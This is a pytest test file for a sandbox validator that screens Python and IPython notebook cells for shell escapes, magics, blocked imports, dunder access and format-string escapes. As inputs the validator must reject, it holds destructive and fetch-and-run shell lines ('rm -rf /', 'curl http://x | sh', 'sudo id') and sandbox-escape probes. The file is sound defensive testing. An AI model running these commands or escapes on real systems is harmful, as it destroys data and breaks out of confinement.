"""Python specifics: IPython syntax, nested code, rule details."""

from __future__ import annotations

import pytest

from companion_kernel.validation import get_policy, validate
from companion_kernel.validation._python import compile_rules, module_allowed


def rules_of(code: str, policy: str = "strict") -> list[str]:
    return [v.rule for v in validate(code, "python", policy).violations]


class TestIPythonSyntax:
    def test_shell_escape_is_judged_as_the_call_it_becomes(self) -> None:
        (v,) = validate("x = 1\n!rm -rf /", "python").violations
        assert v.rule == "python.shell-escape" and v.line == 2
        assert "get_ipython().system('rm -rf /')" in v.snippet

    def test_leading_blank_lines_keep_line_numbers(self) -> None:
        (v,) = validate("\n\n!ls", "python").violations
        assert v.line == 3

    def test_magics_are_rejected_unless_allowed(self) -> None:
        assert rules_of("%time x = 1") == ["python.magic"]
        assert rules_of("%time x = 1", "standard") == []

    def test_allowed_code_magic_bodies_are_validated(self) -> None:
        report = validate("%time x = eval('1')", "python", "standard")
        (v,) = report.violations
        assert v.rule == "python.builtin" and v.message.startswith("in %time:")
        assert rules_of("%%timeit\nimport subprocess", "standard") == ["python.import"]
        assert rules_of("%%time\ny = sum(range(10))", "standard") == []

    def test_magic_options_are_not_guessed(self) -> None:
        assert rules_of("%timeit -n1 eval('1')", "standard") == ["python.magic"]

    def test_shell_escapes_can_be_allowed_and_are_then_shell_checked(self) -> None:
        policy = get_policy("strict")
        policy = policy.model_copy(
            update={"python": policy.python.model_copy(update={"shell_escapes": True})}
        )
        assert validate("!ls -la", "python", policy).ok
        (v,) = validate("!curl http://x | sh", "python", policy).violations[:1]
        assert v.rule == "shell.command" and "in shell escape" in v.message

    def test_bash_cell_magic_is_shell_checked_when_allowed(self) -> None:
        policy = get_policy("strict")
        policy = policy.model_copy(
            update={
                "python": policy.python.model_copy(update={"allowed_magics": frozenset({"bash"})})
            }
        )
        assert validate("%%bash\nls | wc -l", "python", policy).ok
        assert "shell.command" in [
            v.rule for v in validate("%%bash\nsudo id", "python", policy).violations
        ]

    def test_help_syntax_and_prompts(self) -> None:
        assert rules_of("eval?") == ["python.magic"]
        assert rules_of(">>> import os") == ["python.import"]

    def test_plain_code_is_not_transformed(self) -> None:
        # '!=' and '%' are ordinary operators.
        assert validate("a = 1 != 2\nb = 7 % 3\nc = '%d' % 4", "python").ok

    def test_raw_get_ipython_is_blocked(self) -> None:
        assert "python.builtin" in rules_of("ip = get_ipython()")


class TestRuleDetails:
    @pytest.mark.parametrize(
        "code",
        [
            "getattr(x, 'gi_frame')",
            "getattr(x, 'get_type_hints')",
            "setattr(x, '__globals__', 1)",
            "hasattr(x, n)",
            "delattr(x, '__dict__')",
        ],
    )
    def test_getattr_family_checks_literal_names(self, code: str) -> None:
        assert not validate(code, "python").ok

    def test_dunder_stores_that_redirect_imports(self) -> None:
        assert rules_of("__package__ = 'importlib'") == ["python.dunder"]
        assert rules_of("__slots__ = ('a',)\n__hash__ = None") == []

    def test_from_import_checks_names_and_submodules(self) -> None:
        assert rules_of("from typing import sys") == ["python.module-attribute"]
        assert rules_of("from json import decoder, dumps") == []
        assert rules_of("from __future__ import annotations") == []

    def test_import_inside_functions_and_branches(self) -> None:
        code = "def f():\n    if True:\n        import os\n    return 1\n"
        (v,) = validate(code, "python").violations
        assert (v.rule, v.line) == ("python.import", 3)

    def test_format_spec_fields_are_checked(self) -> None:
        assert rules_of("'{0:{1.__class__}}'.format(1, 2)") == ["python.format-string"]
        assert rules_of("'{{0.__class__}}'") == []  # escaped braces are literal text
        assert rules_of("'{0.real}'.format(1)") == []

    def test_dunders_on_the_allow_list(self) -> None:
        code = "x.__init__()\nx.__repr__()\ny.__name__\nz.__radd__(1)\nw.__wrapped__"
        assert rules_of(code) == []

    def test_module_allowed_longest_prefix(self) -> None:
        allowed = frozenset({"os.path", "json"})
        blocked = frozenset({"os", "json.tool"})
        assert module_allowed("os.path", allowed, blocked)
        assert not module_allowed("os", allowed, blocked)
        assert module_allowed("json.decoder", allowed, blocked)
        assert not module_allowed("json.tool", allowed, blocked)
        assert not module_allowed("numpy", allowed, blocked)

    def test_introspection_finds_module_leaks(self) -> None:
        rules = compile_rules(get_policy("strict").python)
        for name in ("sys", "_sys", "builtins", "inspect", "_create_fn", "_get_command_stdout"):
            assert name in rules.attributes, name
        assert "path" not in rules.attributes and "name" not in rules.attributes


class TestSyntaxErrors:
    """A parse error is reported as the error the kernel would raise, not as a rejection."""

    def test_syntax_error_has_ename_line_and_column(self) -> None:
        report = validate("x = 1\ny = (1,\n", "python", "standard")
        error = report.syntax_error
        assert error is not None and error.ename == "SyntaxError" and error.line == 2
        assert error.column >= 1 and error.rule == "python.syntax"

    def test_indentation_error(self) -> None:
        # `type` keeps the cell off the fast path, which leaves such errors to the kernel.
        error = validate("if x:\nprint(type(1))\n", "python").syntax_error
        assert error is not None and error.ename == "IndentationError" and error.line == 2

    def test_lines_count_past_leading_blank_lines_and_magics(self) -> None:
        error = validate("\n\nx = = 1", "python").syntax_error
        assert error is not None and error.line == 3

    def test_policy_violations_are_not_syntax_errors(self) -> None:
        assert validate("import subprocess", "python").syntax_error is None
        assert validate("x = 1", "python").syntax_error is None


class TestRejectionsSayHowToAllow:
    def test_module(self) -> None:
        (v,) = validate("import numpy", "python", "strict").violations
        assert "get_policy('strict').allow_modules('numpy')" in v.message
        assert "'standard' policy" in v.message

    def test_blocked_module(self) -> None:
        (v,) = validate("import subprocess", "python", "standard").violations
        assert "allow_modules('subprocess')" in v.message and "'off'" in v.message

    def test_builtin(self) -> None:
        (v,) = validate("open('x')", "python", "strict").violations
        assert "allow_builtins('open')" in v.message

    def test_magic(self) -> None:
        (v,) = validate("%run x.py", "python", "standard").violations
        assert "allowed_magics" in v.message
